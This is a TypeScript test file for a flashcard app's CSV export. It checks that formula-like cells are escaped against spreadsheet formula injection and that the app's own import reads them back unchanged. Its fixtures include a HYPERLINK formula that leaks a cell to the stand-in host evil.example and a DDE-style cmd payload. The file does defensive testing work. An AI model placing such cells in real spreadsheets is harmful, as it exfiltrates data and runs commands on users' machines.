// Security issue 28 (Low): the CSV export escapes cells a spreadsheet would run as formulae, and our own CSV import
// reads the exported text back unchanged (the escape taken off).
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { plainTextOf, richTextFromPlainText } from '../../../lib/flashcards/rich-text';
import { CSV_FORMULA_CELL, unescapeCsvFormula } from '../csv-formulae';
import { writeCsv } from '../export-csv';
import { parseCsvFile } from '../import/parse-csv-file';

const FORMULA_SIDES = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Klick mich")',
  '+49 30 1234567',
  '-5 °C ist kälter als 0 °C',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  "'=schon mit Apostroph",
  "''-zwei Apostrophe",
];
const PLAIN_SIDES = ['Mitochondrium', "Rock 'n' Roll", 'E = mc²', 'a, "zitiert"'];

/** The raw cells of a CSV as a spreadsheet app reads them (no escape removed). */
const rawCells = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data.slice(1).flat();

describe('CSV export against formula injection', () => {
  it('puts an apostrophe before every cell that starts with =, +, -, @ (also behind apostrophes), and no other', () => {
    const csv = writeCsv([...FORMULA_SIDES, ...PLAIN_SIDES].map((text) => ({ front: richTextFromPlainText(text), back: 'Rückseite' })));
    const cells = rawCells(csv).filter((cell) => cell !== 'Rückseite');
    expect(cells).toEqual([...FORMULA_SIDES.map((text) => `'${text}`), ...PLAIN_SIDES]);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('escapes a tab or carriage return at a cell’s start too (papaparse with our rule)', () => {
    const csv = Papa.unparse([['\t=1+1', '\r=2+2', 'ok']], { escapeFormulae: CSV_FORMULA_CELL });
    expect(Papa.parse<string[]>(csv).data[0]).toEqual(["'\t=1+1", "'\r=2+2", 'ok']);
  });

  it('reads its own export back with the same text on both sides, formula cells included', () => {
    const sides = [...FORMULA_SIDES, ...PLAIN_SIDES];
    const csv = writeCsv(sides.map((text, index) => ({ front: richTextFromPlainText(text), back: richTextFromPlainText(sides[sides.length - 1 - index]!) })));
    const read = parseCsvFile(csv);
    expect(read.problems).toEqual([]);
    expect(read.cards.map((card) => [plainTextOf(card.front), plainTextOf(card.back)])).toEqual(sides.map((text, index) => [text, sides[sides.length - 1 - index]]));
  });

  it('takes off only the escape: one apostrophe before a formula-like cell; cells from elsewhere stay as they are', () => {
    expect(unescapeCsvFormula("'=1+1")).toBe('=1+1');
    expect(unescapeCsvFormula("''=1+1")).toBe("'=1+1");
    expect(unescapeCsvFormula('=1+1')).toBe('=1+1');
    expect(unescapeCsvFormula("'Apostroph")).toBe("'Apostroph");
    expect(unescapeCsvFormula("'")).toBe("'");
  });
});
